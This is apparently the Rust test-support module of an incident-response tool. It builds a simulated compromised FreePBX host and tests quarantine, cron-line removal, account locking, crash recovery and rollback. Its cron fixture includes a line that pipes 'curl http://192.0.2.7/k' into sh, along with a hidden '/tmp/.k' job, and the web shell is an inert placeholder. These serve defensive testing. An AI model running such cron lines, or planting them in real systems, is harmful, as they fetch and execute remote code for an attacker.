//! A small host in a temporary folder, and what is done to it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::print_stderr)]
#![allow(clippy::disallowed_methods, clippy::disallowed_types, reason = "tests build the hosts that they change")]

mod attack;
mod crash;
mod errors;
mod file_systems;
mod living;
mod materials;
mod promises;
mod property;
mod rules;
mod tamper;
mod worlds;

use super::hands::{Cut, Faults, Moment, NoFaults};
use super::run;
use super::{ApplyError, ApplyRequest, LivingHost, ResumeRequest, RunReport, Target, Watch};
use crate::action::{Action, LiveState, Living, State, observe};
use crate::journal::{Consent, Evidence, Run, RunId, Runs};
use crate::model::{Clock, Digest, EvidencePath, FileKind, HostIdentity, RawText, Timestamp};
use crate::plan::{Plan, Risk, Step, StepStatus};
use crate::rollback::{self, RollbackOptions, Scope};
use crate::source::{DirectorySource, SourceKind};
use crate::sys::{change, look};
use std::cell::Cell;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};

pub(super) const SHELL: &[u8] = b"<?php exit; // inert sample: a web shell would stand here\n";
pub(super) const ODD: &[u8] = b"/var/www/html/b\nad\xff.php";
pub(super) const CRON: &[u8] =
    b"# jobs\n*/5 * * * * /usr/sbin/fwconsole job\n* * * * * curl http://192.0.2.7/k | sh\n@daily /bin/true\n*/3 * * * * /tmp/.k\n";

/// A clock that goes on by a second each time it is looked at.
pub(super) struct Ticking(AtomicI64);

impl Clock for Ticking {
    fn now(&self) -> Timestamp {
        Timestamp::new(self.0.fetch_add(1, Ordering::Relaxed), 0)
    }
}

/// Counts the points at which a crash can happen, and crashes at one of them.
pub(super) struct CutAt {
    pub(super) point: u64,
    seen: Cell<u64>,
    /// Where it was cut.
    at: Cell<Option<(Moment, &'static str)>>,
}

impl CutAt {
    pub(super) fn new(point: u64) -> Self {
        Self { point, seen: Cell::new(0), at: Cell::new(None) }
    }
}

impl Faults for CutAt {
    fn at(&self, moment: Moment, doing: &'static str) -> Result<(), Cut> {
        let now = self.seen.get();
        self.seen.set(now + 1);
        if now < self.point {
            return Ok(());
        }
        // Once down, the power stays down.
        if self.at.get().is_none() {
            self.at.set(Some((moment, doing)));
        }
        Err(Cut)
    }
}

/// Does something once, just before or after the call of that name.
pub(super) struct Meanwhile<F: Fn()> {
    pub(super) moment: Moment,
    pub(super) doing: &'static str,
    pub(super) act: F,
    pub(super) done: Cell<bool>,
}

impl<F: Fn()> Meanwhile<F> {
    pub(super) fn before(doing: &'static str, act: F) -> Self {
        Self { moment: Moment::Before, doing, act, done: Cell::new(false) }
    }
}

impl<F: Fn()> Faults for Meanwhile<F> {
    fn at(&self, moment: Moment, doing: &'static str) -> Result<(), Cut> {
        if moment == self.moment && doing == self.doing && !self.done.replace(true) {
            (self.act)();
        }
        Ok(())
    }
}

/// Everything that a rollback promises to put back, of one object.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Seen {
    kind: FileKind,
    mode: u32,
    owner: (u32, u32),
    links: Option<u64>,
    mtime: Option<Timestamp>,
    atime: Option<Timestamp>,
    special: Option<u64>,
    xattrs: BTreeMap<String, RawText>,
    flags: u32,
    content: Vec<u8>,
}

pub(super) type Snapshot = BTreeMap<Vec<u8>, Seen>;

pub(super) struct World {
    pub(super) root: tempfile::TempDir,
    pub(super) state: tempfile::TempDir,
    pub(super) clock: Ticking,
    steps: Vec<Step>,
    /// Where good copies of files come from.
    pub(super) good: Option<Arc<dyn crate::source::Source>>,
    /// Gives what runs on this host to the run; a world without it is an image.
    pub(super) living: Option<fn() -> LivingHost>,
}

impl Drop for World {
    fn drop(&mut self) {
        unpin_all(self.root.path());
    }
}

fn unpin_all(folder: &Path) {
    let flags = |path: &Path| {
        if let Ok(file) = fs::File::open(path) {
            let _ = change::set_inode_flags(&file, 0);
        }
    };
    flags(folder);
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => unpin_all(&entry.path()),
            Ok(kind) if kind.is_file() => flags(&entry.path()),
            _ => {}
        }
    }
}

impl World {
    pub(super) fn empty() -> Self {
        Self::at_places(tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap())
    }

    /// In memory where that has attributes and flags, for what is done thousands of times.
    pub(super) fn in_memory() -> Self {
        let memory = Path::new("/dev/shm");
        let is_fit = tempfile::tempfile_in(memory).is_ok_and(|file| {
            change::set_xattr(&file, "user.probe", b"1").is_ok()
                && change::set_inode_flags(&file, crate::model::FileMeta::IMMUTABLE).is_ok()
                && change::set_inode_flags(&file, 0).is_ok()
        });
        if !is_fit {
            return Self::empty();
        }
        let folder = || tempfile::tempdir_in(memory).unwrap();
        Self::at_places(folder(), folder())
    }

    pub(super) fn at_places(root: tempfile::TempDir, state: tempfile::TempDir) -> Self {
        Self { root, state, clock: Ticking(AtomicI64::new(1_767_323_045)), steps: Vec::new(), good: None, living: None }
    }

    /// A compromised host with something of every kind that is put back.
    pub(super) fn compromised() -> Self {
        let mut world = Self::empty();
        world.file("/var/www/html/shell.php", SHELL, 0o4755, (33, 34));
        world.xattr("/var/www/html/shell.php", "user.comment", b"kept\xff");
        world.file(ODD, b"<?php exit; // odd name", 0o600, (33, 33));
        world.file("/var/www/html/pinned.php", b"<?php exit; // pinned", 0o644, (0, 0));
        world.file("/var/www/html/locked/dropper.php", b"<?php exit; // in a pinned folder", 0o644, (33, 33));
        world.file("/var/www/html/index.php", b"<?php echo 1;", 0o644, (33, 33));
        world.file("/var/www/html/h1.php", b"<?php exit; // two names", 0o640, (33, 33));
        fs::hard_link(world.at("/var/www/html/h1.php"), world.at("/var/www/html/h2.php")).unwrap();
        world.file("/var/spool/cron/asterisk", CRON, 0o600, (995, 995));
        world.xattr("/var/spool/cron/asterisk", "user.label", b"unconfined_u:object_r:user_cron_spool_t:s0");
        world.file("/etc/cron.d/pinned", CRON, 0o644, (0, 0));
        world.file("/etc/shadow", b"root:*:19000::::::\nmaint:$6$x$y:19000:0:99999:7:::\n", 0o640, (0, 42));
        world.file("/srv/acl/job", CRON, 0o640, (33, 33));
        world.xattr("/srv/acl/job", "system.posix_acl_access", &acl(4));
        world.file("/srv/acl/tool", b"#!/bin/true\n", 0o755, (0, 0));
        // cap_net_bind_service, effective; linux/capability.h, revision 2.
        world.xattr("/srv/acl/tool", "security.capability", b"\x01\0\0\x02\0\x04\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
        // Whatever is made in this folder gets an access control list of its own, unless somebody takes it off again.
        world.xattr("/srv/acl", "system.posix_acl_default", &acl(6));
        std::os::unix::fs::symlink("/etc/shadow", world.at("/var/www/html/link")).unwrap();

        world.quarantine("/var/www/html/shell.php");
        world.quarantine(ODD);
        world.remove_lines("/var/spool/cron/asterisk", &["* * * * * curl http://192.0.2.7/k | sh"]);
        world.quarantine("/var/www/html/pinned.php");
        world.quarantine("/var/www/html/locked/dropper.php");
        world.quarantine("/var/www/html/h1.php");
        world.quarantine("/var/www/html/h2.php");
        world.lock_account("/etc/shadow", "maint");
        world.remove_lines("/var/spool/cron/asterisk", &["*/3 * * * * /tmp/.k"]);
        world.quarantine("/srv/acl/tool");
        world.remove_lines("/srv/acl/job", &["*/3 * * * * /tmp/.k"]);
        world.remove_lines("/etc/cron.d/pinned", &["*/3 * * * * /tmp/.k"]);
        world.settle_times();
        for pinned in ["/var/www/html/pinned.php", "/var/www/html/locked", "/etc/cron.d/pinned"] {
            world.pin(pinned);
        }
        world
    }

    /// The least that has every way of changing and restoring once: what is done hundreds of times.
    pub(super) fn varied() -> Self {
        let mut world = Self::in_memory();
        world.file("/var/www/html/locked/shell.php", SHELL, 0o4755, (33, 34));
        world.xattr("/var/www/html/locked/shell.php", "user.comment", b"kept\xff");
        world.file("/var/www/html/h1.php", b"<?php exit; // two names", 0o640, (33, 33));
        fs::hard_link(world.at("/var/www/html/h1.php"), world.at("/var/www/html/h2.php")).unwrap();
        world.file("/etc/cron.d/pinned", CRON, 0o644, (0, 0));
        world.xattr("/etc/cron.d/pinned", "user.label", b"system_cron_spool_t");
        world.quarantine("/var/www/html/locked/shell.php");
        world.remove_lines("/etc/cron.d/pinned", &["*/3 * * * * /tmp/.k"]);
        world.quarantine("/var/www/html/h1.php");
        world.quarantine("/var/www/html/h2.php");
        world.remove_lines("/etc/cron.d/pinned", &["* * * * * curl http://192.0.2.7/k | sh"]);
        world.settle_times();
        for pinned in ["/var/www/html/locked/shell.php", "/var/www/html/locked", "/etc/cron.d/pinned"] {
            world.pin(pinned);
        }
        world
    }

    pub(super) fn at(&self, path: impl AsRef<[u8]>) -> PathBuf {
        let relative = path.as_ref().strip_prefix(b"/").unwrap().to_vec();
        self.root.path().join(std::ffi::OsString::from_vec(relative))
    }

    pub(super) fn file(&self, path: impl AsRef<[u8]>, content: &[u8], mode: u32, owner: (u32, u32)) {
        let path = self.at(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        std::os::unix::fs::chown(&path, Some(owner.0), Some(owner.1)).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    }

    pub(super) fn xattr(&self, path: &str, name: &str, value: &[u8]) {
        change::set_xattr(fs::File::open(self.at(path)).unwrap(), name, value).unwrap();
    }

    /// Says whether the file system knows the flag; if not, the world has no pinned objects and the rest of the test still holds.
    pub(super) fn pin(&self, path: &str) -> bool {
        let file = fs::File::open(self.at(path)).unwrap();
        let pinned = change::set_inode_flags(&file, crate::model::FileMeta::IMMUTABLE).is_ok();
        if !pinned {
            eprintln!("no inode flags here: `{path}` is not immutable in this test");
        }
        pinned
    }

    /// Gives everything an old modification time with odd nanoseconds.
    pub(super) fn settle_times(&self) {
        fn visit(path: &Path, count: &mut i64) {
            if path.is_dir() && !path.is_symlink() {
                for entry in fs::read_dir(path).unwrap() {
                    visit(&entry.unwrap().path(), count);
                }
            }
            *count += 1;
            let time = Some(Timestamp::new(1_600_000_000 + *count * 1000, 123_456_789));
            change::set_times_at(rustix::fs::CWD, path.as_os_str().as_bytes(), time, time).unwrap();
        }
        visit(self.root.path(), &mut 0);
    }

    pub(super) fn step(&mut self, action: Action) {
        let number = u32::try_from(self.steps.len()).unwrap() + 1;
        let before = match (&action, action.path(), self.living) {
            (Action::Live(action), _, Some(host)) => State::Live(host().observe(action).unwrap()),
            (_, Some(path), _) => observe(&self.source(), path, 0).unwrap().0,
            _ => State::Live(LiveState::Unseen),
        };
        self.steps.push(Step {
            number,
            title: format!("{} {}", action.kind(), action.object()),
            action,
            status: StepStatus::WouldChange,
            after: before.clone(),
            before,
            preview: String::new(),
            risk: Risk::Low,
            affects: Vec::new(),
            findings: Vec::new(),
            source: "freepbx/web-shell#test".to_owned(),
            restores_malicious: false,
        });
    }

    pub(super) fn last_step(&mut self) -> &mut Step {
        self.steps.last_mut().unwrap()
    }

    pub(super) fn quarantine(&mut self, path: impl AsRef<[u8]>) {
        let sha256 = Digest::of(&fs::read(self.at(&path)).unwrap());
        self.step(Action::QuarantineFile { path: EvidencePath::new(path).unwrap(), sha256 });
    }

    pub(super) fn remove_lines(&mut self, path: &str, lines: &[&str]) {
        let lines = lines.iter().map(|line| RawText::from(*line)).collect();
        self.step(Action::RemoveLines { path: EvidencePath::new(path).unwrap(), lines, max: 5 });
    }

    pub(super) fn lock_account(&mut self, path: &str, name: &str) {
        self.step(Action::LockAccount { path: EvidencePath::new(path).unwrap(), name: RawText::from(name) });
    }

    pub(super) fn plan(&self) -> Plan {
        Plan {
            format_version: crate::plan::file::VERSION,
            tool: "triage test".to_owned(),
            created: Timestamp::new(1_767_323_000, 0),
            host: HostIdentity {
                digest: Digest::of(b"host"),
                marks: vec!["machine-id".to_owned()],
                hostname: RawText::from("pbx"),
            },
            target: "/".to_owned(),
            playbooks: vec!["freepbx/web-shell".to_owned()],
            steps: self.steps.clone(),
        }
    }

    pub(super) fn source(&self) -> DirectorySource {
        DirectorySource::open(self.root.path(), SourceKind::Root).unwrap()
    }

    pub(super) fn runs(&self) -> Runs {
        Runs::create(&self.state.path().join("triage")).unwrap()
    }

    fn target(&self) -> Target {
        let target = Target::open(self.root.path()).unwrap();
        match self.living {
            Some(host) => target.running(host()),
            None => target,
        }
    }

    fn material(&self) -> Option<&dyn crate::source::Source> {
        self.good.as_deref()
    }

    pub(super) fn last(&self) -> Run {
        let runs = self.runs();
        runs.run(&runs.find("last").unwrap()).unwrap()
    }

    pub(super) fn apply_plan(
        &self,
        plan: &Plan,
        consent: Consent,
        faults: &dyn Faults,
    ) -> Result<RunReport, ApplyError> {
        let target = self.target();
        run::apply(
            ApplyRequest {
                plan,
                target: &target,
                runs: &self.runs(),
                tool: "triage test".to_owned(),
                evidence: Evidence::Waived,
                consent,
                material: self.material(),
                watch: Watch {
                    clock: &self.clock,
                    cancel: &|| false,
                    progress: &mut |_| {},
                    examine: &crate::apply::accept,
                },
            },
            faults,
        )
    }

    pub(super) fn apply(&self) -> RunReport {
        self.apply_plan(&self.plan(), Consent::default(), &NoFaults).unwrap()
    }

    pub(super) fn resume(&self, run: &RunId, faults: &dyn Faults) -> Result<RunReport, ApplyError> {
        self.again(run, faults, run::resume)
    }

    pub(super) fn settle(&self, run: &RunId) -> RunReport {
        self.again(run, &NoFaults, run::settle).unwrap()
    }

    fn again<'a>(
        &'a self,
        id: &'a RunId,
        faults: &'a dyn Faults,
        go: impl for<'b> Fn(ResumeRequest<'b>, &'b dyn Faults) -> Result<RunReport, ApplyError>,
    ) -> Result<RunReport, ApplyError> {
        let target = self.target();
        let runs = self.runs();
        let watch =
            Watch { clock: &self.clock, cancel: &|| false, progress: &mut |_| {}, examine: &crate::apply::accept };
        go(ResumeRequest { run: id, target: &target, runs: &runs, material: self.material(), watch }, faults)
    }

    pub(super) fn rollback_plan(&self, run: &RunId, scope: Scope) -> Plan {
        let options = RollbackOptions {
            scope,
            keep_both: false,
            tool: "triage test".to_owned(),
            created: Timestamp::new(1_767_400_000, 0),
        };
        let host = self.living.map(|host| host());
        let living = host.as_ref().map(|host| host as &dyn Living);
        let outcome = rollback::plan(&self.runs().run(run).unwrap(), &self.source(), living, &options).unwrap();
        assert!(outcome.gaps.is_empty(), "{:?}", outcome.gaps);
        // What goes through a file must come out the same.
        serde_json::from_str(&outcome.value.to_json()).unwrap()
    }

    pub(super) fn rollback(&self, run: &RunId) -> RunReport {
        self.apply_plan(&self.rollback_plan(run, Scope::Everything), agreed(), &NoFaults).unwrap()
    }

    pub(super) fn snapshot(&self) -> Snapshot {
        let mut all = Snapshot::new();
        see(self.root.path(), b"", &mut all);
        all
    }

    /// The snapshot without times, which a run does not promise to leave alone.
    pub(super) fn timeless(&self) -> Snapshot {
        let mut all = self.snapshot();
        for seen in all.values_mut() {
            (seen.mtime, seen.atime) = (None, None);
        }
        all
    }

    pub(super) fn state_of(&self, path: &str) -> State {
        observe(&self.source(), &EvidencePath::new(path).unwrap(), 0).unwrap().0
    }
}

/// An access control list as `system.posix_acl_*` holds it (`linux/posix_acl_xattr.h`): owner `rw`, user 1 and the mask as
/// `bits` say, group `r`, others nothing.
fn acl(bits: u16) -> Vec<u8> {
    let mut out = 2_u32.to_le_bytes().to_vec();
    for (tag, permissions, id) in
        [(1, 6, u32::MAX), (2, bits, 1), (4, 4, u32::MAX), (0x10, bits, u32::MAX), (0x20, 0, u32::MAX)]
    {
        out.extend(u16::to_le_bytes(tag));
        out.extend(u16::to_le_bytes(permissions));
        out.extend(u32::to_le_bytes(id));
    }
    out
}

pub(super) fn agreed() -> Consent {
    Consent { restore_malicious: true, ..Consent::default() }
}

fn see(folder: &Path, prefix: &[u8], all: &mut Snapshot) {
    let dir = fs::File::open(folder).unwrap();
    let meta = look::stat_open(&dir).unwrap();
    all.insert(prefix.to_vec(), seen(&meta, Vec::new()));
    for name in look::list(look::open_directory(&dir, b".").unwrap()).unwrap() {
        let path = [prefix, b"/", &name].concat();
        let meta = look::stat_at(&dir, &name).unwrap();
        match meta.kind {
            FileKind::Directory => see(&folder.join(std::ffi::OsStr::from_bytes(&name)), &path, all),
            FileKind::File => {
                let file = look::open_file(&dir, &name).unwrap();
                let meta = look::stat_open(&file).unwrap();
                let mut content = Vec::new();
                std::io::Read::read_to_end(&mut fs::File::from(file), &mut content).unwrap();
                all.insert(path, seen(&meta, content));
            }
            FileKind::Symlink => {
                let points_to = look::read_link(&dir, &name).unwrap().as_bytes().to_vec();
                let mut seen = seen(&meta, points_to);
                seen.xattrs = look::xattrs_at(&dir, &name).0;
                all.insert(path, seen);
            }
            _ => {
                let mut seen = seen(&meta, Vec::new());
                seen.xattrs = look::xattrs_at(&dir, &name).0;
                all.insert(path, seen);
            }
        }
    }
}

fn seen(meta: &crate::model::FileMeta, content: Vec<u8>) -> Seen {
    Seen {
        kind: meta.kind,
        mode: meta.mode.bits(),
        owner: (meta.uid, meta.gid),
        links: meta.links.filter(|_| meta.is_file()),
        mtime: meta.mtime,
        // Listing a folder and reading a link move theirs.
        atime: meta.atime.filter(|_| meta.is_file()),
        special: meta.special,
        xattrs: meta.xattrs.clone(),
        flags: meta.inode_flags.unwrap_or_default() & change::SETTABLE_FLAGS,
        content,
    }
}

/// Says which objects differ, because two whole snapshots are no readable message.
pub(super) fn assert_same(found: &Snapshot, wanted: &Snapshot, context: &str) {
    let paths: std::collections::BTreeSet<_> = found.keys().chain(wanted.keys()).collect();
    for path in paths {
        let name = crate::model::escape(path);
        assert_eq!(found.get(path), wanted.get(path), "{context}: `{name}`");
    }
}
